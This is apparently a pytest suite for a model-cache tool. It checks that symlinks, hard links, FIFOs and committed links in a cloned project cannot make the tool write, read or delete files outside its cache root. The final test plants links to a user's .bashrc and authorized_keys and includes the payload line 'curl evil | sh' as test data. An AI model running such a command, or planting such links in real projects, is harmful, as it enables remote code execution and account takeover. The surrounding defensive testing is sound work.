"""Nothing outside a cache root is written, read as ours or removed, whatever links and files lie below the root."""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import tempfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

import pytest
from entry_cases import FILES, Case, before_gcs, make_case, on_gcs, well_said
from outside import changes, node, state
from servers.hub import Hub
from trusses import Truss
from xxhash import xxh3_128_hexdigest

Make = Callable[..., Case]
__all__ = ["before_gcs", "make_case", "on_gcs"]

LINKED = {  # layout -> the folders below its root that a first run must write into
    "hub": [
        *(".truss_cache", ".truss_cache/partials", ".truss_cache/manifests", ".truss_cache/claims"),
        *(".truss_cache/locks", ".truss_cache/published", "blobs", "refs"),
        *("snapshots", "snapshots/COMMIT", "snapshots/COMMIT/sub", "snapshots/COMMIT/sub/deep"),
    ],
    "volume": ["vol", "vol/sub/deep"],
    "mount": [".truss_cache", ".truss_cache/manifests", ".truss_cache/claims", ".truss_cache/locks", "sub", "sub/deep"],
    "bucket": [".truss_cache/blobs", "BUCKET"],
    "local": [
        *(".truss_cache", ".truss_cache/partials", ".truss_cache/manifests", ".truss_cache/claims"),
        *(".truss_cache/locks", ".truss_cache/blobs", "weights", "weights/sub"),
    ],
}
PLACES = [(layout, folder) for layout, folders in LINKED.items() for folder in folders]


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    """The user's own folder, with names of every kind that a sweep or a clean may think its own."""
    folder = tmp_path / "precious"
    names = [".bashrc", "notes.txt", "thesis.tex", "main", "root.lock", "links.json", "link.txt", "draft.tmp"]
    names += [
        f"{'0' * 40}.01234567",
        f"{'0' * 40}.01234567.parts",
        f"{'0' * 64}.01234567",
        "partials/a.b",
        "ab/notes.txt",
    ]
    for name, data in {**{name: name.encode() for name in names}, **FILES}.items():
        put(folder / name, data)
    (folder / "folder.d").mkdir()
    return folder


def put(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def link(path: Path, target: Path | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    return path


def place_of(case: Case, folder: str) -> Path:
    """Return the folder of `case` that LINKED names."""
    if "BUCKET" in folder:
        return case.root / case.shown.relative_to(case.root).parts[0]
    return case.root / folder.replace("COMMIT", case.shown.name)


# The path to a root


@pytest.mark.parametrize(
    ("layout", "which"), [("hub", "root"), ("hub", "parent"), ("mount", "root"), ("mount", "parent"), ("local", "root")]
)
def test_the_path_to_a_cache_root_may_hold_links(layout: str, which: str, make_case: Make, tmp_path: Path) -> None:
    case = make_case(layout)
    elsewhere = tmp_path / "other disk"
    elsewhere.mkdir()
    link(case.root if which == "root" else case.root.parent, elsewhere)
    ran = case.truss.cli()
    assert ran.code == 0, ran
    case.is_whole()
    assert any(elsewhere.iterdir())
    ran = case.truss.cli("clean")
    assert ran.code == 0, ran
    assert case.tree() == {}


# Links where a run must write


@pytest.mark.parametrize(("layout", "folder"), PLACES)
def test_a_run_refuses_a_linked_folder_by_name_and_changes_nothing_behind_it(
    layout: str, folder: str, make_case: Make, precious: Path
) -> None:
    case = make_case(layout)
    path = link(place_of(case, folder), precious)
    before = state(precious)
    ran = case.truss.cli()
    assert changes(before, precious) == [], ran
    well_said(ran, str(path), "link")
    ran = case.truss.cli("clean")
    assert changes(before, precious) == [], ran
    assert ran.code in (0, 1, 3), ran
    assert path.is_symlink()
    path.unlink()
    ran = case.truss.cli()
    assert ran.code == 0, ran
    assert case.tree() == FILES


def test_a_run_refuses_a_link_deeper_in_the_staging_folder(make_case: Make, precious: Path) -> None:
    case = make_case("local")
    for number in range(256):
        link(case.records / "blobs" / f"{number:02x}", precious)
    before = state(precious)
    ran = case.truss.cli()
    assert changes(before, precious) == [], ran
    well_said(ran, str(case.records / "blobs"), "link")


def test_a_run_refuses_a_link_deeper_in_the_refs(make_case: Make, hub: Hub, precious: Path) -> None:
    case = make_case("hub")
    hub.repos["org/name"].commit({"config.json": b"[]"}, branch="refs/pr/1")
    case.truss.config("model_cache:\n  - repo_id: org/name\n    revision: refs/pr/1\n")
    path = link(case.root / "refs" / "refs", precious)
    before = state(precious)
    ran = case.truss.cli()
    assert changes(before, precious) == [], ran
    well_said(ran, str(path), "link")


@pytest.mark.parametrize("folder", [".locks", ".locks/models--org--name"])
def test_linked_folders_of_huggingface_hubs_locks_get_no_file_of_ours(
    folder: str, make_case: Make, precious: Path
) -> None:
    case = make_case("hub")
    link(case.root.parent / folder, precious)
    before = state(precious)
    ran = case.truss.cli()
    assert changes(before, precious) == [], ran
    assert ran.code in (0, 1), ran
    ran = case.truss.cli("clean")
    assert changes(before, precious) == [], ran


def test_the_hub_cache_behind_a_mount_is_held_to_the_same_rules(make_case: Make, precious: Path) -> None:
    case = make_case("mount")
    path = link(case.truss.hub_cache / "models--org--name" / "blobs", precious)
    before = state(precious)
    ran = case.truss.cli()
    assert changes(before, precious) == [], ran
    well_said(ran, str(path), "link")


# Links where a file is to be


@pytest.mark.parametrize("target", ["outside, equal bytes", "outside, other bytes", "nothing"])
def test_a_linked_blob_is_not_read_and_not_written_through(target: str, make_case: Make, tmp_path: Path) -> None:
    case = make_case("hub")
    victim = tmp_path / "outside" / "victim"
    if target != "nothing":
        put(victim, FILES["model.bin"] if "equal" in target else b"v" * len(FILES["model.bin"]))
    victim.parent.mkdir(exist_ok=True)
    blob = link(case.root / "blobs" / hashlib.sha256(FILES["model.bin"]).hexdigest(), victim)
    before = state(victim.parent)
    ran = case.truss.cli()
    assert changes(before, victim.parent) == [], ran
    assert ran.code == 0, ran
    assert not blob.is_symlink()
    case.is_whole()
    assert case.truss.cli("clean").code == 0
    assert changes(before, victim.parent) == []


@pytest.mark.parametrize("target", ["outside", "another repo's blob"])
def test_a_snapshot_link_that_leads_to_no_blob_of_its_repo_is_never_fresh(
    target: str, make_case: Make, tmp_path: Path
) -> None:
    case = make_case("hub")
    assert case.truss.cli().code == 0
    seen = case.shown / "model.bin"
    blob = seen.resolve()
    victim = tmp_path / "outside" / "model.bin"
    if target != "outside":
        victim = case.root.parent / "models--org--other" / "blobs" / blob.name
    put(victim, b"v" * len(FILES["model.bin"]))
    os.utime(victim, ns=(0, blob.stat().st_mtime_ns))
    seen.unlink()
    seen.symlink_to(os.path.relpath(victim, seen.parent))
    before = node(victim)
    why = case.truss.cli("why")
    assert "stale" in why.out, why
    assert case.truss.cli("verify").code == 1
    ran = case.truss.cli()
    assert ran.code == 0, ran
    case.is_whole()
    assert case.truss.cli("clean").code == 0
    assert node(victim) == before


# clean


CLEANED = [
    *(("hub", folder) for folder in ("snapshots", "snapshots/COMMIT", "snapshots/COMMIT/sub", "blobs", "refs")),
    *(("hub", folder) for folder in (".truss_cache", ".truss_cache/manifests", ".truss_cache/claims")),
    *(("volume", folder) for folder in ("vol", "vol/sub")),
    *(("mount", folder) for folder in ("sub", ".truss_cache")),
    *(("bucket", folder) for folder in ("BUCKET",)),
    *(("local", folder) for folder in ("weights/sub", ".truss_cache/manifests")),
]


@pytest.mark.parametrize(("layout", "folder"), CLEANED)
def test_a_clean_removes_nothing_behind_a_link_that_took_the_place_of_a_folder(
    layout: str, folder: str, make_case: Make, tmp_path: Path
) -> None:
    case = make_case(layout)
    assert case.truss.cli().code == 0
    path, outside = place_of(case, folder), tmp_path / "outside"
    shutil.move(path, outside)
    path.symlink_to(outside)
    before = state(outside)
    for args in (["clean", "-n"], ["clean"], ["run"]):
        ran = case.truss.cli(*args)
        assert changes(before, outside, links=False) == [], (args, ran)  # their other names are blobs of the hub cache
        assert ran.code in (0, 1, 3), ran
        assert path.is_symlink()


@pytest.mark.parametrize(("layout", "folder"), [("local", "weights"), ("mount", "sub"), ("hub", "snapshots/COMMIT")])
def test_records_that_came_from_elsewhere_let_no_clean_remove_through_a_link(
    layout: str, folder: str, make_case: Make, tmp_path: Path, precious: Path
) -> None:
    """The manifest of a whole cache, restored (as a CI cache is) where a committed link has its folder's place."""
    case = make_case(layout)
    truss = case.truss
    truss.env["TRUSS_CACHE_PROJECT"] = "ci"
    assert truss.cli().code == 0
    path = place_of(case, folder)
    inside = path.relative_to(case.shown).as_posix()
    for name in FILES:  # as the manifest has them, to the nanosecond
        os.utime(precious / name, ns=(0, (case.shown / name).stat().st_mtime_ns))
    shutil.rmtree(path)
    link(path, precious / inside)
    before = state(precious)
    for args in (["clean", "-n"], ["clean"]):
        ran = truss.cli(*args)
        assert changes(before, precious) == [], (args, ran)
        assert ran.code in (0, 1, 3), ran


# Partials, journals and locks that somebody put there


def journal(data: bytes) -> bytes:
    """Return the journal that says that all of `data` has come, in one part."""
    return f'0 {len(data)} {xxh3_128_hexdigest(data)} "v"\n'.encode()


BIG = random.Random(11).randbytes((9 << 20) + 5)  # of two parts, so that its journal is read
PREPARED = ("symlink", "dangling symlink", "fifo", "folder", "second hard link", "of another user")


def prepare(path: Path, kind: str, victim: Path, data: bytes) -> None:
    """Put something at `path` that no partial and no journal of ours is; `victim` is the user's own file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    match kind:
        case "symlink":
            path.symlink_to(victim)
        case "dangling symlink":
            path.symlink_to(victim.with_name("not there"))
        case "fifo":
            os.mkfifo(path)
        case "folder":
            put(path / "inside.txt", b"theirs")
        case "second hard link":
            os.link(victim, path)
        case "of another user":
            if os.geteuid():
                assert not os.environ.get("CI"), "CI must be able to give a file away"
                pytest.skip("needs root: a file of another user")
            put(path, data)
            os.chown(path, 65534, 65534)


def look(paths: Iterable[Path]) -> dict[Path, object]:
    """Return what lies at each of `paths`, and below it."""
    return {path: (node(path), state(path)) if os.path.lexists(path) else None for path in paths}


def partial_name(layout: str, data: bytes) -> str:
    """Return how a partial of these bytes begins (docs/on-disk-format.md): the ETag in a hub cache, else of ours."""
    sha256 = hashlib.sha256(data).hexdigest()
    return sha256 if layout == "hub" else hashlib.sha256(f"sha256:{sha256}".encode()).hexdigest()[:40]


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """The user's own file."""
    return put(tmp_path / "precious" / ".bashrc", b"alias ls=ls\n" * 100)


@pytest.mark.parametrize(
    ("kind", "which"), [("symlink", "both"), *((kind, which) for kind in PREPARED for which in ("partial", "journal"))]
)
def test_a_prepared_partial_or_journal_that_is_not_ours_alone_is_left_and_not_resumed(
    kind: str, which: str, make_case: Make, victim: Path
) -> None:
    case = make_case("hub", {"model.bin": BIG, "config.json": b"{}"})
    partials = case.records / "partials"
    path = partials / f"{partial_name('hub', BIG)}.01234567"
    parts = path.with_name(f"{path.name}.parts")
    false = bytes(len(BIG))
    if which == "both":
        prepare(path, kind, victim, false)
        prepare(parts, kind, victim, journal(false))
    elif which == "partial":
        prepare(path, kind, victim, false)
        put(parts, journal(false))
    else:
        put(path, false)
        prepare(parts, kind, victim, journal(false))
    prepared = {"partial": [path], "journal": [parts], "both": [path, parts]}[which]
    before, outside = look(prepared), state(victim.parent)
    ran = case.truss.cli()
    assert changes(outside, victim.parent) == [], ran
    assert ran.code == 0, ran
    assert look(prepared) == before
    assert (case.shown / "model.bin").read_bytes() == BIG
    ran = case.truss.cli("clean")
    assert ran.code == 0, ran
    assert look(prepared) == before
    assert case.tree() == {}
    assert changes(outside, victim.parent) == []


@pytest.fixture
def other_disk(tmp_path: Path) -> Iterator[Path]:
    """A folder on another disk than the cache."""
    memory = Path("/dev/shm")
    if not memory.is_dir() or memory.stat().st_dev == tmp_path.stat().st_dev:
        pytest.skip("needs /dev/shm on a disk of its own")
    with tempfile.TemporaryDirectory(dir=memory) as folder:
        yield Path(folder)


@pytest.mark.parametrize("kind", ["symlink", "second hard link", "folder"])
def test_a_prepared_partial_of_a_flat_layout_is_left_too(
    kind: str, make_case: Make, victim: Path, other_disk: Path
) -> None:
    case = make_case("volume", {"model.bin": BIG, "config.json": b"{}"})
    case.truss.env["HF_HOME"] = str(other_disk)  # of which no hard link leads to the volume: it is filled by itself
    path = case.records / "partials" / f"{partial_name('volume', BIG)}.01234567"
    prepare(path, kind, victim, b"")
    put(path.with_name(f"{path.name}.parts"), journal(bytes(len(BIG))))
    before, outside = look([path]), state(victim.parent)
    ran = case.truss.cli()
    assert changes(outside, victim.parent) == [], ran
    assert ran.code == 0, ran
    assert look([path]) == before
    case.is_whole({"model.bin": BIG, "config.json": b"{}"})


@pytest.mark.parametrize("kind", ["symlink", "dangling symlink", "second hard link", "fifo", "folder"])
@pytest.mark.parametrize("layout", ["hub", "local"])
def test_a_prepared_lock_file_is_never_written_through_and_never_removed(
    kind: str, layout: str, make_case: Make, victim: Path
) -> None:
    case = make_case(layout)
    key = case.truss.python(
        "from truss_cache_tasks import load_config\nprint(load_config('config.yaml').entries[0].key)"
    )
    locks = [case.records / "locks" / "root.lock", case.records / "locks" / f"entry-{key.out.strip()}.lock"]
    if layout == "hub":
        for data in FILES.values():
            locks.append(case.root.parent / ".locks" / case.root.name / f"{partial_name('hub', data)}.lock")
    for number, path in enumerate(locks):
        prepare(path, kind, put(victim.with_name(f"{number}.txt"), b"the user's own"), b"")
    before, outside = look(locks), state(victim.parent)
    for args in (["run"], ["clean"]):
        ran = case.truss.cli(*args)
        assert changes(outside, victim.parent) == [], (args, ran)
        assert ran.code in (0, 1, 3), ran
        assert look(locks) == before, (args, ran)


# Names that are not ours


THEIRS = [
    *("partials/notes.txt", "partials/my.model.safetensors", "partials/a.b/inside.txt"),
    *(f"partials/{'a' * 39}.01234567", f"partials/{'a' * 40}.0123456", f"partials/{'A' * 40}.01234567"),
    *(
        f"partials/{'a' * 40}.01234567.bak",
        f"partials/{'a' * 40}.01234567.parts.bak",
        "partials/.hidden",
        "partials/x.tmp",
    ),
    *("blobs/readme.md", "blobs/ab/notes.txt", "blobs/zz/inside.txt", "blobs/folder.d/inside.txt"),
    *("manifests/notes.txt", "manifests/package.json", "manifests/folder.json/inside.txt", "manifests/x.tmp"),
    *("claims/notes.txt", "claims/x.tmp", "locks/notes.txt", "published/notes.txt"),
    *("link.txt", "ref.notes", "draft.tmp", "notes.txt", "folder.d/inside.txt"),
]


@pytest.mark.parametrize("layout", ["hub", "local", "mount"])
def test_names_that_are_not_of_our_exact_shape_stay_and_a_clean_names_them(layout: str, make_case: Make) -> None:
    case = make_case(layout)
    theirs = look([put(case.records / name, b"theirs") for name in THEIRS])
    said: dict[str, list[str]] = {}
    for args in ("run", "run -a", "why --check", "verify", "clean -n", "clean", "clean"):
        ran = case.truss.cli(*args.split())
        assert ran.code == 0, (args, ran)
        assert look(case.records / name for name in THEIRS) == theirs, (args, ran)
        said.setdefault(args, ran.out.splitlines())
    assert case.tree() == {}
    kept = [line for line in said["clean"] if line.startswith("kept ")]
    for name in THEIRS:
        named = name.removesuffix("/inside.txt")
        assert any(named in line for line in kept), (named, kept)
    ran = case.truss.cli()
    assert ran.code == 0, ran
    case.is_whole()


# A cloned Truss


@pytest.mark.parametrize("attack", ["the partial", "its journal", "the folder", "the records", "a lock", "a snapshot"])
def test_a_cloned_truss_with_committed_links_cannot_touch_the_home_folder(
    attack: str, truss: Truss, hub: Hub, tmp_path: Path
) -> None:
    home, clone = tmp_path / "home", tmp_path / "clone"
    put(home / ".bashrc", b"alias ls=ls\n" * 100)
    put(home / ".ssh" / "authorized_keys", b"ssh-ed25519 AAAA me\n")
    evil = b"curl evil | sh\n".ljust((9 << 20) + 5, b"#")
    commit = hub.create("evil/name").commit({"model.bin": evil, "sub/.bashrc": b"evil", "config.json": b"{}"})
    put(clone / "config.yaml", b"environment_variables:\n  HF_HOME: ./cache\nmodel_cache:\n  - repo_id: evil/name\n")
    repo = clone / "cache" / "hub" / "models--evil--name"
    partial = repo / ".truss_cache" / "partials" / f"{partial_name('hub', evil)}.01234567"
    match attack:
        case "the partial":
            link(partial, "../../../../../../home/.bashrc")
            put(partial.with_name(f"{partial.name}.parts"), journal(evil[: 8 << 20]))
        case "its journal":
            put(partial, evil[: 8 << 20])
            link(partial.with_name(f"{partial.name}.parts"), "../../../../../../home/.bashrc")
        case "the folder":
            link(partial.parent, "../../../../../home")
        case "the records":
            put(home / "partials" / "my.notes", b"notes")
            link(repo / ".truss_cache", "../../../../home")
        case "a lock":
            link(repo / ".truss_cache" / "locks" / "root.lock", "../../../../../../home/.bashrc")
            link(repo.parent / ".locks" / repo.name / f"{partial_name('hub', evil)}.lock", home / "new.lock")
        case "a snapshot":
            link(repo / "snapshots" / commit / "sub", "../../../../../../home")
    links = [path for path in clone.rglob("*") if path.is_symlink()]
    assert links
    assert all(path.resolve().is_relative_to(home) for path in links)
    before = state(home)
    env = {"HOME": str(home), "XDG_STATE_HOME": str(tmp_path / "state")}  # which is ours
    ran = truss.run(["truss-cache", "-f", str(clone)], **env)
    assert changes(before, home) == [], ran
    if attack in ("the partial", "its journal"):
        assert ran.code == 0, ran
        assert (repo / "snapshots" / commit / "model.bin").read_bytes() == evil
    elif attack != "a lock":
        well_said(ran, "link")
    ran = truss.run(["truss-cache", "clean", "-f", str(clone)], **env)
    assert changes(before, home) == [], ran
    assert ran.code in (0, 1, 3), ran
